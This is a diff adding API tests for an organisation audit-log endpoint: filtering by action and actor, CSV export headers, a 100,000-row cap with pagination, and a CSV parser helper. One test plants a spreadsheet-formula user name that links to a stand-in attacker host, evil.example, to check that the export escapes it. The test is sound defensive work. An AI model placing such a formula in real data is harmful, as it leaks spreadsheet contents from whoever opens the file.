@@ -260,6 +260,95 @@ describe('GET /v1/organisations/{org_id}/audit-log', () => {
     ]);
   });
 
+  it('is filtered by the kind of change and by who made it', async () => {
+    const owner = await idOf(cast.owner);
+    await invitation(await idOf(cast.member));
+    const { id } = (await cast.admin.post(`/v1/organisations/${cast.orgId}/scim/tokens`, { name: 'Okta' })).body;
+    const kindsOf = async (query: string) => (await read(`?limit=1${query}`)).map(({ action }) => action);
+    expect(await kindsOf('&action=invitation.declined')).toEqual(['invitation.declined']);
+    expect(await kindsOf(`&actor_id=${(await idOf(cast.member)).toUpperCase()}`)).toEqual([
+      'invitation.declined',
+      'member.added',
+    ]);
+    expect(await kindsOf(`&actor_id=${await idOf(cast.admin)}&action=scim_token.created&subject_id=${id}`)).toEqual([
+      'scim_token.created',
+    ]);
+    expect(await kindsOf(`&actor_id=${owner}&action=scim_token.created`)).toEqual([]);
+    expect(faultsOf(await cast.admin.get(`${path}?action=member&actor_id=owner`, 422))).toEqual([
+      'query.action enum',
+      'query.actor_id uuid_parsing',
+    ]);
+    const next = nextPage(await cast.admin.get(`${path}?limit=1&action=member.added`)) as `${typeof path}?${string}`;
+    expect(faultsOf(await cast.admin.get(`${next}&action=member.removed`, 422))).toEqual(['query.action value_error']);
+  });
+
+  it('is a file for spreadsheets, in which no name is a formula', async () => {
+    const memberId = await idOf(cast.member);
+    const hostile = '=HYPERLINK("https://evil.example/?"&A1,"Open, please")\n+1';
+    await test.dataSource.query(`UPDATE users SET name = $2 WHERE id = $1`, [memberId, hostile]);
+    await invitation(memberId);
+    const { name } = (await cast.admin.post(`/v1/organisations/${cast.orgId}/scim/tokens`, { name: '@SUM(1)' })).body;
+    const answer = await cast.admin.get(`${path}?format=csv&limit=1`);
+    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
+    expect(answer.headers['content-disposition']).toMatch(/^attachment; filename="audit-log-\d{4}-\d\d-\d\d\.csv"$/);
+    expect(answer.headers['cache-control']).toBe('no-store');
+    expect(answer.headers.link).toBeUndefined();
+    expect(answer.text.startsWith('\uFEFF"id","created_at","action",')).toBe(true);
+    const [head, ...lines] = csvOf(answer.text);
+    const entries = await read();
+    expect(lines.map(([id]) => id)).toEqual(entries.map(({ id }) => id));
+    const records = lines.map((line): Record<string, string> =>
+      Object.fromEntries(line.map((cell, column) => [head?.[column] ?? '', cell])),
+    );
+    expect(records[0]).toEqual({
+      id: entries[0]?.id,
+      created_at: entries[0]?.created_at,
+      action: 'scim_token.created',
+      actor_type: 'user',
+      actor_id: await idOf(cast.admin),
+      actor_name: '',
+      actor_email: entries[0]?.actor.email,
+      subject_type: 'scim_token',
+      subject_id: entries[0]?.subject_id,
+      before: '',
+      after: JSON.stringify(entries[0]?.after),
+      reason: '',
+      details: '',
+      request_id: entries[0]?.request_id,
+    });
+    expect(entries[0]?.after).toMatchObject({ name });
+    expect(records[1]?.actor_name).toBe(`'${hostile}`);
+    const filtered = await cast.admin.get(`${path}?format=csv&action=invitation.declined`);
+    expect(csvOf(filtered.text).map(([, , action]) => action)).toEqual(['action', 'invitation.declined']);
+    expect(csvOf((await cast.admin.get(`${path}?format=csv&to=2020-01-01T00:00:00Z`)).text)).toHaveLength(1);
+    expect((await cast.admin.raw('head', `${path}?format=csv`)).status).toBe(200);
+    await cast.member.get(`${path}?format=csv`, 403);
+  });
+
+  it('is at most 100,000 changes a file, whose name and Link say that more follow', async () => {
+    const { dataSource } = test;
+    await dataSource.query(
+      `INSERT INTO audit_log (id, org_id, action, actor_type, subject_type)
+       SELECT uuid_v7(), $1, 'policy.changed', 'system', 'bundle' FROM generate_series(1, 100003)`,
+      [cast.orgId],
+    );
+    const first = await cast.admin.get(`${path}?format=csv&action=policy.changed`);
+    expect(first.headers['content-disposition']).toMatch(/-more-follows\.csv"$/);
+    const ids = csvOf(first.text)
+      .slice(1)
+      .map(([id = '']) => id);
+    expect(ids).toHaveLength(100_000);
+    const rest = await cast.admin.get(nextPage(first) as `${typeof path}?format=csv`);
+    expect(rest.headers['content-disposition']).toMatch(/\d\.csv"$/);
+    ids.push(
+      ...csvOf(rest.text)
+        .slice(1)
+        .map(([id = '']) => id),
+    );
+    expect(new Set(ids).size).toBe(100_003);
+    expect(ids).toEqual([...ids].sort().reverse());
+  });
+
   it('contains only its own organisation’s entries', async () => {
     const other = await createCast(test);
     const next = nextPage(await cast.admin.get(`${path}?limit=1`)) ?? '';
@@ -273,6 +362,19 @@ describe('GET /v1/organisations/{org_id}/audit-log', () => {
     expect(await allPages(other.owner, `/v1/organisations/${other.orgId}/audit-log?subject_id=${common}`)).toEqual([]);
   });
 });
+
+/** @returns the cells of a file by line, as RFC 4180 reads them; every cell is in quotation marks */
+function csvOf(text: string): string[][] {
+  const lines: string[][] = [];
+  let line: string[] = [];
+  for (const [, cell = '', end] of text.replace(/^\uFEFF/, '').matchAll(/"((?:[^"]|"")*)"(,|\r\n)/g)) {
+    line.push(cell.replaceAll('""', '"'));
+    if (end === ',') continue;
+    lines.push(line);
+    line = [];
+  }
+  return lines;
+}
 
 /** At a time in the past. */
 async function insertEntry({ dataSource }: TestApp, orgId: string, time: number, subjectId: string): Promise<string> {
